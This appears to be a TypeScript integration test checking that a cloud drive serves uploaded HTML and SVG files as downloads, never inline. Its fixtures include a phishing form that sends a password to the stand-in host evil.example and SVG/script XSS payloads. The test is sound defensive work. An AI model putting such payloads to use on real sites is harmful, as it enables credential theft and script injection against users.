import { putBytes, uploadFile } from '../support/cloud';
import { createAccount, type Account } from '../support/factories';
import { s3Env, startS3, type S3Server } from '../support/s3';
import { startStack, type TestStack } from '../support/stack';

const HTML =
  '<html><body><form action="https://evil.example/steal"><input name="password"></form><script>alert(document.domain)</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>';

/** The drive's rule (domain/cloud/downloads.ts INLINE_SAFE, presignFile): no HTML or SVG inline, whatever the address. */
describe.each(['local', 's3'] as const)(
  'cloud: uploaded HTML and SVG are never served as active content (%s storage)',
  (driver) => {
    let s3: S3Server | null = null;
    let stack: TestStack;
    let owner: Account;
    beforeAll(async () => {
      if (driver === 's3') s3 = await startS3();
      stack = await startStack({ workers: false, env: s3Env(s3, 'cloud-active') });
      await stack.services.storage.ensureBucket();
      owner = await createAccount(stack, { tier: 'pro' });
    });
    afterAll(async () => {
      await stack?.close();
      await s3?.close();
    });

    /** 'safe', or how a browser would receive it. */
    const servedAs = (res: Response) => {
      const type = (res.headers.get('content-type') ?? '').split(';')[0].trim().toLowerCase();
      const disposition = res.headers.get('content-disposition') ?? '';
      return disposition.startsWith('attachment') ||
        !['text/html', 'image/svg+xml', 'application/xhtml+xml'].includes(type)
        ? 'safe'
        : `inline ${type} (Content-Disposition: ${disposition || 'none'})`;
    };
    const fetched = async (url: string) => {
      const res = await fetch(url);
      expect(res.status).toBe(200);
      await res.arrayBuffer();
      return res;
    };

    it('serves a drive HTML file as an attachment from every address (octet-stream on S3)', async () => {
      const file = await uploadFile(stack, owner, 'invoice.html', HTML, { contentType: 'text/html' });
      const tenant = await stack.http.get(`/api/cloud/files/${file.id}/tenant-download-url`).set(owner.auth);
      expect(tenant.status).toBe(200);
      expect(tenant.body.contentType).toBe('text/html');
      const download = await stack.http.get(`/api/cloud/files/${file.id}/download-url`).set(owner.auth);
      const inline = await stack.http
        .get(new URL(download.body.inlineUrl).pathname + new URL(download.body.inlineUrl).search)
        .redirects(0);
      expect(inline.status).toBe(302);
      for (const url of [tenant.body.url, download.body.url, inline.headers.location]) {
        const served = await fetched(url);
        expect(servedAs(served)).toBe('safe');
        expect(served.headers.get('content-disposition')).toMatch(/^attachment; filename="invoice.html"/);
        if (driver === 's3') expect(served.headers.get('content-type')).toBe('application/octet-stream');
      }
    });

    it('still serves a safe type inline through tenant-download-url', async () => {
      const file = await uploadFile(stack, owner, 'notes.txt', 'plain', { contentType: 'text/plain' });
      const tenant = await stack.http.get(`/api/cloud/files/${file.id}/tenant-download-url`).set(owner.auth);
      const served = await fetched(tenant.body.url);
      expect(served.headers.get('content-disposition')).toBeNull();
      expect(served.headers.get('content-type')).toMatch(/^text\/plain/);
    });

    it('keeps an SVG of the media library a file, downloaded as an attachment', async () => {
      const bytes = Buffer.from(SVG);
      const ticket = await stack.http
        .post('/api/assets/upload-url')
        .set(owner.auth)
        .send({ name: 'logo.svg', size: bytes.length, contentType: 'image/svg+xml' });
      expect(ticket.status).toBe(201);
      expect(await putBytes(ticket.body, bytes)).toBeLessThan(300);
      const asset = await stack.http.post('/api/assets').set(owner.auth).send({ uploadId: ticket.body.uploadId });
      expect(asset.status).toBe(201);
      expect(asset.body).toMatchObject({ kind: 'file', contentType: 'image/svg+xml' });
      const served = await fetched(asset.body.url);
      expect(servedAs(served)).toBe('safe');
      const listed = await stack.http.get('/api/assets?kind=image').set(owner.auth);
      expect(listed.body.items.map((i: { id: string }) => i.id)).not.toContain(asset.body.id);
    });
  },
);
